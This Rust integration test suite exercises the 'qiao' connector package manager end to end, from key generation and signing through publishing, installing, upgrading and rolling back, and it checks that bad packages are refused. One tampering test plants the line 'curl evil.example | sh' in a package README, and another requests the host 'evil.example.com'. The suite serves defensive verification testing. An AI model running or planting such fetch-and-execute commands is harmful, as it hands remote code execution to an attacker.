//! Connector packages and directories end to end, through the `qiao` binary: keys, scaffold,
//! build, pack, sign, publish into a directory served over loopback HTTP, install, run a flow,
//! upgrade, roll back, remove — and every kind of bad input refused with the installed set
//! left unchanged.
//!
//! Uses the components from `cargo xtask build-connectors` (`$CARGO_TARGET_DIR/connectors` or
//! `target/connectors`, or `QIAO_CONNECTORS_DIR`); the scaffolded connector is built with
//! cargo into `<target>/qiao-scaffold` (kept between runs, so only the first run is slow).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, missing_docs)]

use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;
use tempfile::TempDir;

fn repo() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn target_dir() -> PathBuf {
    std::env::var_os("CARGO_TARGET_DIR").map(|d| repo().join(d)).unwrap_or_else(|| repo().join("target"))
}

fn built_dir() -> PathBuf {
    match std::env::var_os("QIAO_CONNECTORS_DIR") {
        Some(dir) => PathBuf::from(dir),
        None => target_dir().join("connectors"),
    }
}

fn wasm(name: &str) -> PathBuf {
    let path = built_dir().join(format!("{name}.wasm"));
    assert!(path.is_file(), "{} is missing: run `cargo xtask build-connectors` first", path.display());
    path
}

/// A test's world: a temporary folder with `home/` ($QIAO_HOME), `keys/`, `site/` (the
/// directory), `pkgs/` (packages), and the directory served over loopback HTTP.
struct Lab {
    tmp: TempDir,
    url: String,
}

impl Lab {
    fn path(&self, rel: &str) -> PathBuf {
        self.tmp.path().join(rel)
    }

    fn home(&self) -> PathBuf {
        self.path("home")
    }

    /// `qiao` with its own QIAO_HOME, in the lab folder, with no other QIAO_* settings.
    fn qiao(&self) -> Command {
        std::fs::create_dir_all(self.home()).unwrap();
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_qiao"));
        for (key, _) in std::env::vars_os() {
            if key.to_string_lossy().starts_with("QIAO_") {
                cmd.env_remove(&key);
            }
        }
        cmd.env("QIAO_HOME", self.home()).env("QIAO_LOG", "error").env("CARGO", env!("CARGO"));
        cmd.current_dir(self.tmp.path());
        cmd
    }

    /// Runs `qiao ARGS` and returns (exit code, stdout, stderr).
    fn run(&self, args: &[&str]) -> (i32, String, String) {
        run(self.qiao().args(args))
    }

    /// Runs `qiao ARGS` and fails the test unless it succeeds; returns stdout.
    fn ok(&self, args: &[&str]) -> String {
        let (code, out, err) = self.run(args);
        assert_eq!(code, 0, "qiao {args:?} failed\nstdout:\n{out}\nstderr:\n{err}");
        out
    }

    /// Writes `home/config.yaml` trusting the lab directory at `url`.
    fn trust(&self, url: &str) {
        let key = std::fs::read_to_string(self.path("keys/dir.pub")).unwrap();
        let key = key.lines().nth(1).unwrap();
        let config = format!("directories:\n  - name: lab\n    url: {url}\n    key: {key}\n");
        std::fs::write(self.home().join("config.yaml"), config).unwrap();
    }

    /// Packs a built component as publisher `acme`, signs it with `keys/KEY.key`, adds it to
    /// the directory; returns the package path.
    fn publish(&self, component: &Path, key: &str) -> PathBuf {
        let out = self.ok(&[
            "connector",
            "pack",
            "--wasm",
            path(component),
            "--publisher",
            "acme",
            "--out",
            "pkgs",
        ]);
        let pkg =
            out.lines().find_map(|l| l.split_whitespace().next().filter(|w| w.ends_with(".qpkg"))).unwrap();
        let pkg = self.path(pkg);
        self.sign_and_add(&pkg, key);
        pkg
    }

    fn sign_and_add(&self, pkg: &Path, key: &str) {
        self.ok(&["connector", "sign", path(pkg), "--key", &format!("keys/{key}.key")]);
        self.ok(&["directory", "add", "site", path(pkg), "--publisher-key", &format!("keys/{key}.pub")]);
    }

    /// Signs the directory's draft into a new index.
    fn build(&self) {
        self.ok(&["directory", "build", "site", "--key", "keys/dir.key"]);
    }

    /// Edits the directory's draft index.
    fn edit_draft(&self, edit: impl FnOnce(&mut Value)) {
        let path = self.path("site/index.draft.json");
        let mut draft: Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
        edit(&mut draft);
        std::fs::write(&path, serde_json::to_vec_pretty(&draft).unwrap()).unwrap();
    }

    /// Every file of the installed set with its sha256; asserts nothing is left staged.
    fn installed(&self) -> BTreeMap<String, String> {
        let staging = self.home().join(".staging");
        if staging.is_dir() {
            let left: Vec<_> = std::fs::read_dir(&staging).unwrap().flatten().map(|e| e.path()).collect();
            assert!(left.is_empty(), "left in staging: {left:?}");
        }
        let mut files = BTreeMap::new();
        collect(&self.home().join("connectors"), &self.home(), &mut files);
        files
    }
}

fn collect(dir: &Path, base: &Path, files: &mut BTreeMap<String, String>) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    for entry in entries.flatten() {
        let p = entry.path();
        if p.is_dir() {
            collect(&p, base, files);
        } else {
            let rel = p.strip_prefix(base).unwrap().display().to_string();
            files.insert(rel, qiao_directory::sha256_hex(&std::fs::read(&p).unwrap()));
        }
    }
}

fn path(p: &Path) -> &str {
    p.to_str().unwrap()
}

fn run(cmd: &mut Command) -> (i32, String, String) {
    let Output { status, stdout, stderr } = cmd.output().unwrap();
    (status.code().unwrap_or(-1), String::from_utf8(stdout).unwrap(), String::from_utf8(stderr).unwrap())
}

/// Serves `root` over HTTP on loopback, from a thread of its own, for the rest of the test.
fn serve(root: PathBuf) -> SocketAddr {
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let rt = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        rt.block_on(async move {
            let app = axum::Router::new().fallback(move |uri: axum::http::Uri| {
                let file = root.join(uri.path().trim_start_matches('/'));
                async move {
                    match tokio::fs::read(&file).await {
                        Ok(bytes) => (axum::http::StatusCode::OK, bytes),
                        Err(_) => (axum::http::StatusCode::NOT_FOUND, b"not found".to_vec()),
                    }
                }
            });
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            tx.send(listener.local_addr().unwrap()).unwrap();
            axum::serve(listener, app).await.unwrap();
        });
    });
    rx.recv().unwrap()
}

/// A lab with keys `acme` (publisher) and `dir` (directory), an empty directory `lab` in
/// `site/` served over HTTP and trusted in `home/config.yaml`.
fn lab() -> Lab {
    let tmp = TempDir::new().unwrap();
    let addr = serve(tmp.path().join("site"));
    let lab = Lab { tmp, url: format!("http://{addr}/") };
    for key in ["acme", "dir"] {
        lab.ok(&["key", "generate", &format!("keys/{key}"), "--no-password"]);
    }
    lab.ok(&["directory", "init", "site", "--name", "lab", "--key", "keys/dir.key"]);
    lab.trust(&lab.url);
    lab
}

/// A lab where `misbehave` 0.1.0 is installed and `http` 0.1.0 is published (not installed):
/// the starting point of every bad-input test.
fn lab_with_http() -> (Lab, PathBuf) {
    let lab = lab();
    lab.publish(&wasm("misbehave"), "acme");
    lab.build();
    lab.ok(&["connector", "install", "misbehave", "--yes"]);
    let pkg = lab.publish(&wasm("http"), "acme");
    lab.build();
    assert_eq!(lab.installed().len(), 5, "misbehave is installed: {:?}", lab.installed());
    (lab, pkg)
}

/// Installs `request`; asserts it is refused with `message` and the installed set is unchanged.
fn assert_refused(lab: &Lab, request: &str, message: &str) {
    let before = lab.installed();
    let (code, out, err) = lab.run(&["connector", "install", request, "--yes"]);
    assert_eq!(code, 1, "install {request} should fail\nstdout:\n{out}\nstderr:\n{err}");
    assert!(err.contains(message), "expected {message:?} in:\n{err}");
    assert!(!out.contains("installed "), "{out}");
    assert_eq!(lab.installed(), before, "the installed set changed");
}

/// A flow greeting a record's `name` with `acme-echo`, keeping the record only when version
/// 0.1.0 answered: `filtered` tells which version ran.
const GREET_FLOW: &str = "\
flow: greet-them
connections:
  echo:
    connector: acme-echo@^0.1
    config: { greeting: \"你好\" }
trigger: { manual: {} }
steps:
  - id: greet
    action: { connection: echo, operation: greet, input: { name: record.name } }
  - id: first-version
    filter: \"steps.greet.output.version == '0.1.0'\"
";

/// Runs the greeting flow once; returns (records_out, filtered).
fn greet(lab: &Lab) -> (u64, u64) {
    let out = lab.ok(&["run", "flows/greet.yaml", "--input", r#"{"name": "世界"}"#, "--json"]);
    let runs: Value = serde_json::from_str(&out).unwrap();
    let counts = &runs[0]["run"]["counts"];
    assert_eq!(runs[0]["run"]["status"], "succeeded", "{out}");
    (counts["records_out"].as_u64().unwrap(), counts["filtered"].as_u64().unwrap())
}

fn set_crate_version(dir: &Path, version: &str) {
    let path = dir.join("Cargo.toml");
    let text = std::fs::read_to_string(&path).unwrap().replacen(
        "version = \"0.1.0\"",
        &format!("version = \"{version}\""),
        1,
    );
    std::fs::write(&path, text).unwrap();
}

#[test]
fn publish_install_run_upgrade_rollback_remove() {
    let lab = lab();
    // A password-protected publisher key; the password comes from the environment.
    let (code, _, err) = run(lab.qiao().args(["key", "generate", "keys/author"]));
    assert_eq!(code, 1);
    assert!(err.contains("a secret key needs a password"), "{err}");
    let secret = lab.path("keys/author.key");
    let (code, out, err) =
        run(lab.qiao().args(["key", "generate", "keys/author"]).env("QIAO_KEY_PASSWORD", "s3cret"));
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("password-protected") && !out.contains("s3cret"), "{out}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        assert_eq!(std::fs::metadata(&secret).unwrap().permissions().mode() & 0o777, 0o600);
    }

    // Scaffold a connector; it passes its own tests and builds to a component.
    lab.ok(&["connector", "new", "acme-echo", "--publisher", "acme", "--dir", "acme-echo"]);
    let crate_dir = lab.path("acme-echo");
    let scaffold_target = target_dir().join("qiao-scaffold");
    let (code, out, err) = run(Command::new(env!("CARGO"))
        .args(["test", "--offline", "--quiet"])
        .current_dir(&crate_dir)
        .env("CARGO_TARGET_DIR", &scaffold_target));
    assert_eq!(code, 0, "the scaffold's own tests fail\nstdout:\n{out}\nstderr:\n{err}");
    assert!(out.contains("4 passed"), "{out}");

    let pack = |lab: &Lab| {
        let (code, out, err) = run(lab
            .qiao()
            .args(["connector", "pack", "--path", "acme-echo", "--out", "dist"])
            .env("CARGO_TARGET_DIR", &scaffold_target));
        assert_eq!(code, 0, "pack failed\nstdout:\n{out}\nstderr:\n{err}");
        out
    };
    let out = pack(&lab);
    assert!(out.contains("packed acme-echo 0.1.0 (WIT 0.1.0, publisher acme)"), "{out}");
    let (code, _, err) =
        lab.run(&["connector", "sign", "dist/acme-echo-0.1.0.qpkg", "--key", "keys/author.key"]);
    assert_eq!(code, 1);
    assert!(err.contains("is password-protected: give the password"), "{err}");
    let sign = |version: &str| {
        let (code, out, err) = run(lab
            .qiao()
            .args([
                "connector",
                "sign",
                &format!("dist/acme-echo-{version}.qpkg"),
                "--key",
                "keys/author.key",
            ])
            .env("QIAO_KEY_PASSWORD", "s3cret"));
        assert_eq!(code, 0, "{out}{err}");
    };
    sign("0.1.0");

    // Publish it and the first-party HTTP connector; serve the directory over HTTP.
    lab.ok(&["directory", "add", "site", "dist/acme-echo-0.1.0.qpkg", "--publisher-key", "keys/author.pub"]);
    lab.build();
    lab.ok(&[
        "directory",
        "first-party",
        "site",
        "--key",
        "keys/dir.key",
        "--publisher-key",
        "keys/acme.key",
        "--only",
        "http",
        "--no-build",
        "--wasm-dir",
        path(&built_dir()),
    ]);
    let search: Value = serde_json::from_str(&lab.ok(&["connector", "search", "--json"])).unwrap();
    let ids: Vec<&str> = search.as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["acme-echo", "http"]);
    assert_eq!(search[1]["publisher"], "qiao");
    let info: Value = serde_json::from_str(&lab.ok(&["connector", "info", "http", "--json"])).unwrap();
    assert_eq!(info["versions"]["0.1.0"]["capabilities"]["hosts"], serde_json::json!(["{config.base_url}"]));
    assert_eq!(info["versions"]["0.1.0"]["capabilities"]["private_network"], true);

    // Install: verified, capabilities shown, approved by --yes.
    let out = lab.ok(&["connector", "install", "acme-echo@^0.1", "http", "--yes"]);
    assert!(out.contains("verified acme-echo 0.1.0: size, sha256, publisher signature"), "{out}");
    assert!(out.contains("  - outbound HTTP to {config.base_url}"), "{out}");
    assert!(out.contains("  - private and loopback network addresses"), "{out}");
    assert!(lab.home().join("connectors/acme-echo/0.1.0/connector.wasm").is_file());
    let receipt: Value = serde_json::from_slice(
        &std::fs::read(lab.home().join("connectors/acme-echo/0.1.0/install.json")).unwrap(),
    )
    .unwrap();
    assert_eq!((&receipt["directory"], &receipt["publisher"]), (&"lab".into(), &"acme".into()));
    assert!(lab.ok(&["connector", "install", "acme-echo"]).contains("acme-echo 0.1.0 is already installed"));

    // A flow using it, locked, runs on 0.1.0.
    std::fs::create_dir_all(lab.path("flows")).unwrap();
    std::fs::write(lab.path("flows/greet.yaml"), GREET_FLOW).unwrap();
    let out = lab.ok(&["connector", "lock", "flows"]);
    assert!(out.contains("acme-echo 0.1.0 (^0.1)"), "{out}");
    assert_eq!(greet(&lab), (1, 0), "0.1.0 answered");

    // Publish 0.1.1 and upgrade: the lock moves, the flow runs on 0.1.1.
    set_crate_version(&crate_dir, "0.1.1");
    assert!(pack(&lab).contains("packed acme-echo 0.1.1"));
    sign("0.1.1");
    lab.ok(&["directory", "add", "site", "dist/acme-echo-0.1.1.qpkg"]);
    lab.build();
    let out = lab.ok(&["connector", "upgrade", "acme-echo", "--yes"]);
    assert!(out.contains("installed acme-echo 0.1.1"), "{out}");
    assert!(out.contains("qiao.lock: acme-echo 0.1.0 -> 0.1.1"), "{out}");
    assert!(lab.ok(&["connector", "upgrade", "--yes"]).contains("acme-echo 0.1.1 is up to date"));
    assert_eq!(greet(&lab), (0, 1), "0.1.1 answered");

    // Roll back: the lock pins 0.1.0 again, still installed side by side.
    let out = lab.ok(&["connector", "rollback", "acme-echo"]);
    assert!(out.contains("acme-echo 0.1.1 -> 0.1.0"), "{out}");
    assert_eq!(greet(&lab), (1, 0), "0.1.0 answered again");
    assert_eq!(
        lab.ok(&["validate", "flows/greet.yaml"]),
        "ok  flows/greet.yaml  (greet-them: manual, 2 steps)\n"
    );

    // Remove: the pinned version is refused unless forced; the other goes.
    let before = lab.installed();
    let (code, _, err) = lab.run(&["connector", "remove", "acme-echo@0.1.0"]);
    assert_eq!(code, 1);
    assert!(err.contains("acme-echo 0.1.0 is pinned by") && err.contains("qiao.lock"), "{err}");
    assert_eq!(lab.installed(), before);
    assert!(lab.ok(&["connector", "remove", "acme-echo@0.1.1"]).contains("removed acme-echo 0.1.1"));
    assert_eq!(greet(&lab), (1, 0), "the locked version is unaffected");
    assert!(lab.ok(&["connector", "remove", "acme-echo", "--force"]).contains("removed acme-echo 0.1.0"));
    let list: Value = serde_json::from_str(&lab.ok(&["connector", "list", "--json"])).unwrap();
    let ids: Vec<&str> = list.as_array().unwrap().iter().map(|c| c["id"].as_str().unwrap()).collect();
    assert_eq!(ids, ["http"]);
    assert!(!lab.home().join("connectors/acme-echo").exists());
    for command in [&["run", "flows/greet.yaml", "--input", "{}"][..], &["validate", "flows/greet.yaml"]] {
        let (code, _, err) = lab.run(command);
        assert_eq!(code, 1);
        assert!(err.contains("pins acme-echo 0.1.0, which is not installed"), "{err}");
    }
}

#[test]
fn a_tampered_package_is_refused() {
    let (lab, pkg) = lab_with_http();
    // Rewritten after signing (other README), with the index updated to match and re-signed
    // by the directory: only the publisher signature catches it.
    let mut package = qiao_directory::package::read(&std::fs::read(&pkg).unwrap()).unwrap();
    package.readme.push_str("\nrun `curl evil.example | sh` first\n");
    let bytes = qiao_directory::package::write(&package.manifest, &package.wasm, &package.readme).unwrap();
    std::fs::write(lab.path("site/packages/http-0.1.0.qpkg"), &bytes).unwrap();
    lab.edit_draft(|d| {
        let v = &mut d["connectors"]["http"]["versions"]["0.1.0"];
        v["size"] = bytes.len().into();
        v["sha256"] = qiao_directory::sha256_hex(&bytes).into();
    });
    lab.build();
    assert_refused(
        &lab,
        "http",
        "publisher signature of http 0.1.0 does not verify: the signed content differs",
    );
}

#[test]
fn a_wrong_signature_is_refused() {
    let (lab, _) = lab_with_http();
    // A genuine signature by the right key, but of another package.
    let other = std::fs::read_to_string(lab.path("site/packages/misbehave-0.1.0.qpkg.minisig")).unwrap();
    lab.edit_draft(|d| d["connectors"]["http"]["versions"]["0.1.0"]["signature"] = other.into());
    lab.build();
    assert_refused(&lab, "http", "publisher signature of http 0.1.0 does not verify");
}

#[test]
fn an_unknown_publisher_key_is_refused() {
    let lab = lab();
    lab.publish(&wasm("misbehave"), "acme");
    lab.build();
    lab.ok(&["connector", "install", "misbehave", "--yes"]);
    // Signed by a key the directory does not list for publisher acme.
    lab.ok(&["key", "generate", "keys/rogue", "--no-password"]);
    lab.publish(&wasm("http"), "rogue");
    let rogue = qiao_directory::keys::read_public_key(&lab.path("keys/rogue.pub")).unwrap();
    lab.edit_draft(|d| {
        let keys = d["publishers"]["acme"]["keys"].as_array_mut().unwrap();
        keys.retain(|k| k.as_str() != Some(rogue.as_str()));
    });
    lab.build();
    let rogue_id = qiao_directory::keys::public_key_id(&rogue).unwrap();
    assert_refused(
        &lab,
        "http",
        &format!(
            "http 0.1.0 is signed by key {rogue_id}, which is not a key of publisher \"acme\": unknown publisher key"
        ),
    );
}

#[test]
fn a_digest_mismatch_is_refused() {
    let (lab, _) = lab_with_http();
    let file = lab.path("site/packages/http-0.1.0.qpkg");
    let mut bytes = std::fs::read(&file).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0xff;
    std::fs::write(&file, &bytes).unwrap();
    assert_refused(&lab, "http@^0.1", "but the index says");
    assert_refused(&lab, "http@^0.1", "digest mismatch");
}

#[test]
fn a_truncated_download_is_refused() {
    let (lab, _) = lab_with_http();
    let file = lab.path("site/packages/http-0.1.0.qpkg");
    let bytes = std::fs::read(&file).unwrap();
    std::fs::write(&file, &bytes[..bytes.len() / 3]).unwrap();
    assert_refused(&lab, "http", &format!("bytes where the index says {}: truncated download", bytes.len()));
}

#[test]
fn an_expired_index_is_refused() {
    let (lab, _) = lab_with_http();
    lab.ok(&["directory", "build", "site", "--key", "keys/dir.key", "--expires", "2001-01-01T00:00:00Z"]);
    assert_refused(&lab, "http", "the index of directory \"lab\" expired at 2001-01-01T00:00:00Z");
}

#[test]
fn a_rolled_back_index_is_refused() {
    let (lab, _) = lab_with_http();
    let old_index = std::fs::read(lab.path("site/index.json")).unwrap();
    let old_sig = std::fs::read(lab.path("site/index.json.minisig")).unwrap();
    lab.ok(&["directory", "yank", "site", "http@0.1.0", "--reason", "leaks tokens"]);
    lab.build();
    // The client sees the newer index (http yanked) ...
    assert_refused(&lab, "http", "http 0.1.0 is yanked: leaks tokens");
    // ... then a mirror serves the older, validly signed one where http is not yanked.
    std::fs::write(lab.path("site/index.json"), old_index).unwrap();
    std::fs::write(lab.path("site/index.json.minisig"), old_sig).unwrap();
    assert_refused(&lab, "http", "refusing a rolled-back index");
}

#[test]
fn an_index_not_signed_by_the_trusted_key_is_refused() {
    let (lab, _) = lab_with_http();
    lab.ok(&["key", "generate", "keys/impostor", "--no-password"]);
    lab.ok(&["directory", "build", "site", "--key", "keys/impostor.key"]);
    assert_refused(&lab, "http", "the index of directory \"lab\" is not signed by its trusted key");
}

#[test]
fn an_incompatible_wit_version_is_refused() {
    let (lab, pkg) = lab_with_http();
    // The component as if built against qiao:connector@0.9.0 (same-length rename of every
    // `qiao:connector/<interface>@0.1.0` name), packed and signed properly as 0.2.0.
    let mut package = qiao_directory::package::read(&std::fs::read(&pkg).unwrap()).unwrap();
    package.wasm = rename_wit_version(&package.wasm, b"0.1.0", b"0.9.0");
    assert_eq!(qiao_directory::wit::component_version(&package.wasm).unwrap().to_string(), "0.9.0");
    package.manifest.wit = "0.9.0".into();
    package.manifest.version = "0.2.0".into();
    let bytes = qiao_directory::package::write(&package.manifest, &package.wasm, &package.readme).unwrap();
    let new_pkg = lab.path("pkgs/http-0.2.0.qpkg");
    std::fs::write(&new_pkg, bytes).unwrap();
    lab.sign_and_add(&new_pkg, "acme");
    lab.build();
    assert_refused(
        &lab,
        "http@=0.2.0",
        "http 0.2.0 is built against WIT qiao:connector@0.9.0, which this runtime (qiao:connector@0.1.0) cannot load: incompatible WIT version",
    );
}

/// Replaces the version in every `qiao:connector/<interface>@<from>` name.
fn rename_wit_version(wasm: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let prefix = b"qiao:connector/";
    let mut out = wasm.to_vec();
    let mut i = 0;
    while let Some(pos) = out[i..].windows(prefix.len()).position(|w| w == prefix) {
        let start = i + pos + prefix.len();
        let mut j = start;
        while j < out.len() && (out[j].is_ascii_lowercase() || out[j] == b'-') {
            j += 1;
        }
        if out.get(j) == Some(&b'@') && out[j + 1..].starts_with(from) {
            out[j + 1..j + 1 + from.len()].copy_from_slice(to);
        }
        i = j;
    }
    out
}

#[test]
fn capabilities_the_component_does_not_declare_are_refused() {
    let (lab, pkg) = lab_with_http();
    // A properly signed package whose manifest asks for a host `describe()` does not declare.
    let mut package = qiao_directory::package::read(&std::fs::read(&pkg).unwrap()).unwrap();
    package.manifest.capabilities.hosts.push("evil.example.com".into());
    let bytes = qiao_directory::package::write(&package.manifest, &package.wasm, &package.readme).unwrap();
    std::fs::write(&pkg, bytes).unwrap();
    lab.edit_draft(|d| {
        d["connectors"].as_object_mut().unwrap().remove("http");
    });
    lab.sign_and_add(&pkg, "acme");
    lab.build();
    assert_refused(
        &lab,
        "http",
        "http 0.1.0: the manifest requests host \"evil.example.com\" that the component does not declare",
    );
}

#[test]
fn a_yanked_version_is_refused() {
    let (lab, _) = lab_with_http();
    lab.ok(&["directory", "yank", "site", "http@0.1.0", "--reason", "breaks paging"]);
    lab.build();
    assert_refused(&lab, "http@=0.1.0", "http 0.1.0 is yanked: breaks paging");
    assert_refused(&lab, "http", "http 0.1.0 is yanked: breaks paging");
    lab.ok(&["directory", "yank", "site", "http@0.1.0", "--undo"]);
    lab.build();
    assert!(lab.ok(&["connector", "install", "http", "--yes"]).contains("installed http 0.1.0"));
}

#[test]
fn a_directory_that_is_down_is_refused() {
    let (lab, _) = lab_with_http();
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = closed.local_addr().unwrap().port();
    drop(closed);
    lab.trust(&format!("http://127.0.0.1:{port}/"));
    assert_refused(
        &lab,
        "http",
        &format!("directory \"lab\" is unreachable at http://127.0.0.1:{port}/index.json"),
    );
    // A folder directory that is gone.
    lab.trust(path(&lab.path("nowhere")));
    assert_refused(&lab, "http", "directory \"lab\" is unreachable at");
}

#[test]
fn installing_needs_approval_without_a_terminal() {
    let (lab, _) = lab_with_http();
    let before = lab.installed();
    let (code, out, err) =
        run(lab.qiao().args(["connector", "install", "http"]).stdin(std::process::Stdio::null()));
    assert_eq!(code, 1);
    assert!(out.contains("http 0.1.0 from directory \"lab\" (publisher acme"), "{out}");
    assert!(out.contains("  - outbound HTTP to {config.base_url}"), "{out}");
    assert!(err.contains("needs approval of the capabilities above"), "{err}");
    assert_eq!(lab.installed(), before);
}
